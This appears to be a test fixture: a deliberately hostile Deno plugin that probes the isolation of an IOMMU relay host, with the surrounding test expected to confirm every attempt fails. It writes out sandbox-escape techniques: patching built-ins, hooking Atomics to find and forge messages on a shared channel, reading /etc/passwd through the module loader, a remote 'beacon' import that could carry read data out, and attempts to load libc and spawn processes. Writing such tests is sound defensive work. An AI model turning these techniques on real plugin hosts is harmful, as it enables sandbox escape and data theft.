// A hostile third-party plugin. Loaded with loadPlugin it runs in a Worker of its own; from there it tries what an
// attacker would: replace the built-ins the relay uses, walk everything reachable from its device handle (prototypes,
// symbols, getters, constructor chains), name another device's domain, and forge raw messages on the channel it
// finds by hooking Atomics. Its drain() reports what it saw instead of a drain report; the test checks each failed.
import { definePlugin } from "../../lib/plugin/plugin.ts";
import { Channel, ChannelState } from "../../lib/plugin/channel.ts";

const HOST_CLASSES = ["RelayQueue", "AssignedDevice", "GuestIommu", "RelayHost", "Iommufd", "NativeShim", "ModelHost"];

/** Every object reachable from `root`: own keys and symbols, getters (called), prototypes, constructors. */
function reach(root: unknown): { constructors: Set<string>; objects: number } {
  const seen = new Set<unknown>(), constructors = new Set<string>();
  const todo: unknown[] = [root];
  while (todo.length && seen.size < 20_000) {
    const o = todo.pop();
    if (o === null || (typeof o !== "object" && typeof o !== "function") || seen.has(o)) continue;
    seen.add(o);
    const ctor = (o as { constructor?: { name?: string } }).constructor?.name;
    if (ctor) constructors.add(ctor);
    todo.push(Object.getPrototypeOf(o));
    for (const key of Reflect.ownKeys(o)) {
      const d: PropertyDescriptor = Object.getOwnPropertyDescriptor(o, key)!;
      if ("value" in d) todo.push(d.value);
      else {
        try {
          todo.push(d.get?.call(o));
        } catch { /* a getter that refuses */ }
      }
    }
  }
  return { constructors, objects: seen.size };
}

const outcome = (f: () => unknown) => {
  try {
    const v = f();
    return `accepted ${JSON.stringify(v) ?? ""}`.trim();
  } catch (e) {
    return (e as Error).name;
  }
};

// Reading through the module loader rather than the file API: Deno checks a Worker's module loads against its
// parent's permissions, not its own, so a text import of a file the VMM may read, or a module from a host it may
// import from (a URL that could carry what was read), would succeed where Deno.readTextFileSync is NotCapable.
// Dynamic, so that a refusal does not stop this module from loading.
const viaLoader = (p: Promise<{ default?: unknown }>) =>
  p.then(
    (m) => `loaded ${String(m.default ?? "").length}`,
    (e) => /Requires (read|import) access/.test((e as Error).message) ? "refused" : `failed ${(e as Error).name}`,
  );
const importPasswd = await viaLoader(import("/etc/passwd", { with: { type: "text" } }));
// A beacon on a host Deno lets import by default: a variable, as the URL would carry what was read.
const beacon = "https://deno.land/x/iommu_relay_hostile_beacon/mod.ts";
const importRemote = await viaLoader(import(beacon));

// Tampered intrinsics: in the host's realm these would see (and could change) the relay's own maps and arrays.
let intercepted = 0;
const realGet = Map.prototype.get, realPush = Array.prototype.push;
Map.prototype.get = function (this: Map<unknown, unknown>, k: unknown) {
  intercepted++;
  return realGet.call(this, k);
};
Array.prototype.push = function (this: unknown[], ...items: unknown[]) {
  intercepted++;
  return realPush.apply(this, items);
};
// The channel: hooked from Atomics, which the handle's calls go through.
let shared: SharedArrayBuffer | undefined;
const realNotify = Atomics.notify;
Atomics.notify = ((a: Int32Array, i: number, n?: number) => {
  if (a.buffer instanceof SharedArrayBuffer) shared = a.buffer;
  return realNotify(a, i, n);
}) as typeof Atomics.notify;

export default definePlugin({
  name: "hostile",
  version: "6.6.6",
  create(device, config) {
    const other = config.domain === 1 ? 2 : 1;
    const table = { format: "vtd-s1" as const, tableAddress: 0x6000, addressWidth: 48 as const };
    return {
      name: "hostile",
      get state() {
        return device.state;
      },
      config,
      get telemetry() {
        return device.telemetry;
      },
      on: device.on,
      submit: (r) => device.submit(r),
      drain() {
        const seen: Record<string, unknown> = {};
        const found = reach(device);
        seen.objectsWalked = found.objects;
        seen.hostClasses = HOST_CLASSES.filter((c) => found.constructors.has(c));
        seen.globals = HOST_CLASSES.filter((c) => c in globalThis);
        seen.unbindOther = outcome(() => device.submit({ op: "unbind", domain: other, pasid: 1 }));
        seen.invalidateOther = outcome(() =>
          device.submit({ op: "invalidate", domain: other, scope: { kind: "all" } })
        );
        seen.bindOther = outcome(() => device.submit({ op: "bind", domain: other, pasid: 1, table }));
        // A request whose domain changes after it was checked (a getter): the handle copies requests first.
        let reads = 0;
        const shifty = {
          op: "unbind",
          get domain() {
            return reads++ === 0 ? config.domain : other;
          },
          pasid: 1,
        };
        seen.shiftyDomain = outcome(() => device.submit(shifty as never));
        seen.bindOwn = outcome(() => device.submit({ op: "bind", domain: config.domain, pasid: 3, table }));
        seen.channelFound = shared !== undefined;
        if (shared) {
          const ch = new Channel(shared);
          const forge = (message: { method: string; args: unknown[] }) => {
            ch.send(ChannelState.HANDLE_CALL, message);
            ch.waitWhile([ChannelState.HANDLE_CALL], 5000);
            const m = ch.read();
            return m.error ? m.error.name : `accepted ${JSON.stringify(m.value)}`;
          };
          seen.forgedQueue = forge({ method: "queue", args: [] });
          seen.forgedAssign = forge({ method: "assign", args: [{ domain: other, device: { kind: "model" } }] });
          seen.forgedUnbindOther = forge({ method: "submit", args: [{ op: "unbind", domain: other, pasid: 1 }] });
          seen.forgedProto = forge({ method: "__proto__", args: [] });
        }
        seen.intercepted = intercepted > 0;
        // Around the handle: the process's own powers. Loaded with { permissions: "none" } its Worker has none: no
        // library to load (the shim's fd table is per process), no device node, no file, no child process.
        seen.dlopenLibc = outcome(() => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }));
        seen.openIommu = outcome(() => Deno.openSync("/dev/iommu", { read: true, write: true }));
        seen.readPasswd = outcome(() => Deno.readTextFileSync("/etc/passwd").length);
        seen.spawn = outcome(() => new Deno.Command("true").outputSync().code);
        seen.importPasswd = importPasswd;
        seen.importRemote = importRemote;
        return { ioctls: 0, entries: 0, invalidations: 0, unrouted: 0, failures: [], waits: [], seen } as never;
      },
      [Symbol.dispose]() {},
    };
  },
});
